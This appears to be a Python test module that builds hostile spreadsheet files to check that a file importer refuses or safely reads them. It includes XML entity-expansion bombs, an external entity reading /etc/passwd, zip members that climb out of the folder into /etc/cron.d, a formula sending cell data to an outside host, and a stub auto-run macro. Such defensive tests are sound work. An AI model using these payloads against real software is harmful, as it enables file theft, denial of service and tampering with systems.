"""Workbooks made to harm whatever opens them."""

from collections.abc import Iterator
from pathlib import Path

from tests.badfiles import HEADINGS, MEANT, ROW, ROWS, read_as, refused
from tests.badfiles.parts import MAIN, packed, parts, row_xml, rows_xml, sheet_xml

DEFINED = '<!DOCTYPE worksheet [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
LAST_ROW = 1_048_576


@refused("damaged, or far bigger than it looks")
def far_corner(folder: Path) -> Path:
    corner = f'<row r="{LAST_ROW}"><c r="XFD{LAST_ROW}"><v>1</v></c></row>'
    return packed(folder / "list.xlsx", parts(sheet_xml(rows_xml(ROWS) + corner)))


@refused("reaches to row 200,000")
def far_down(folder: Path) -> Path:
    last = '<row r="200000"><c r="A200000"><v>1</v></c></row>'
    return packed(folder / "list.xlsx", parts(sheet_xml(rows_xml(ROWS) + last)))


@refused("column 16,384")
def every_column_headed(folder: Path) -> Path:
    headings = [*HEADINGS, *(f"Column {at}" for at in range(16_384 - len(HEADINGS)))]
    return packed(folder / "list.xlsx", parts(sheet_xml(rows_xml([headings, ROW]))))


@read_as(MEANT)
def million_empty_formatted_rows(folder: Path) -> Path:
    def blocks() -> Iterator[bytes]:
        yield sheet_xml(rows_xml(ROWS)).removesuffix("</sheetData></worksheet>").encode()
        for start in range(len(ROWS) + 1, LAST_ROW, 4096):
            rows = range(start, min(start + 4096, LAST_ROW))
            yield "".join(f'<row r="{n}" s="0"><c r="A{n}" s="0"/></row>' for n in rows).encode()
        yield b"</sheetData></worksheet>"

    return packed(folder / "list.xlsx", parts("") | {"xl/worksheets/sheet1.xml": blocks()})


@read_as(MEANT)
def dimension_too_large(folder: Path) -> Path:
    lie = f'<dimension ref="A1:XFD{LAST_ROW}"/>'
    return packed(folder / "list.xlsx", parts(sheet_xml(rows_xml(ROWS), before=lie)))


@read_as(MEANT)
def dimension_too_small(folder: Path) -> Path:
    return packed(
        folder / "list.xlsx", parts(sheet_xml(rows_xml(ROWS), before='<dimension ref="A1"/>'))
    )


@refused("definitions in it")
def entities_that_grow(folder: Path) -> Path:
    rows = row_xml(1, HEADINGS) + '<row r="2"><c r="A2" t="inlineStr"><is><t>&b;</t></is></c></row>'
    return packed(folder / "list.xlsx", parts(sheet_xml(rows, definition=DEFINED)))


@refused("definitions in it")
def entity_from_outside(folder: Path) -> Path:
    outside = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    rows = row_xml(1, HEADINGS) + '<row r="2"><c r="A2" t="inlineStr"><is><t>&a;</t></is></c></row>'
    return packed(folder / "list.xlsx", parts(sheet_xml(rows, definition=outside)))


@refused("definitions in it")
def entities_in_wide_letters(folder: Path) -> Path:
    sheet = sheet_xml(rows_xml(ROWS), definition=DEFINED).replace("UTF-8", "UTF-16")
    return packed(folder / "list.xlsx", parts(sheet.encode("utf-16")))


@refused("definitions in it")
def definition_across_two_blocks(folder: Path) -> Path:
    sheet = sheet_xml(rows_xml(ROWS), definition=f"<!--{'x' * ((1 << 20) - 65)}-->{DEFINED}")
    return packed(folder / "list.xlsx", parts(sheet))


@refused("definitions in it")
def zeros_in_the_xml(folder: Path) -> Path:
    return packed(folder / "list.xlsx", parts(sheet_xml(rows_xml(ROWS)).encode() + b"\0\0"))


@refused("definitions in it")
def definition_in_a_drawing(folder: Path) -> Path:
    drawing = {"xl/drawings/drawing1.xml": f"{DEFINED}<a>&b;</a>"}
    return packed(folder / "list.xlsx", parts(sheet_xml(rows_xml(ROWS))) | drawing)


@read_as(MEANT)
def macros(folder: Path) -> Path:
    code = {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub Auto_Open() Kill"}
    return packed(folder / "list.xlsm", parts(sheet_xml(rows_xml(ROWS))) | code)


@read_as(MEANT)
def elements_in_elements(folder: Path) -> Path:
    deep = "<a>" * 200_000 + "</a>" * 200_000
    return packed(folder / "list.xlsx", parts(sheet_xml(rows_xml(ROWS), after=deep)))


@refused("damaged, or far bigger than it looks")
def places_that_do_not_exist(folder: Path) -> Path:
    odd = '<row r="3"><c r="ZZZZZZZZ99999999999" t="e"><v>#REF!</v></c></row>'
    return packed(folder / "list.xlsx", parts(sheet_xml(rows_xml(ROWS) + odd)))


@read_as(MEANT)
def path_that_climbs_out(folder: Path) -> Path:
    csv = "\n".join(",".join(f'"{value}"' for value in row) for row in ROWS)
    members = {"../../../Arrangements.csv": csv, "/etc/cron.d/x": "* * * * * root true"}
    return packed(folder / "list.zip", members)


@read_as(MEANT)
def formulas_that_call_out(folder: Path) -> Path:
    called = '=WEBSERVICE("https://example.org/"&amp;A1)'
    rows = rows_xml([(*HEADINGS, "Extra"), (*ROW, f'<c r="F2"><f>{called}</f></c>')])
    return packed(folder / "list.xlsx", parts(sheet_xml(rows)))


@refused("far more than a list would")
def one_long_text_in_every_cell(folder: Path) -> Path:
    text = "x" * 30_000
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 4001))
    shared = {"xl/sharedStrings.xml": f'<sst xmlns="{MAIN}" count="1"><si><t>{text}</t></si></sst>'}
    return packed(folder / "list.xlsx", parts(sheet_xml(rows)) | shared)
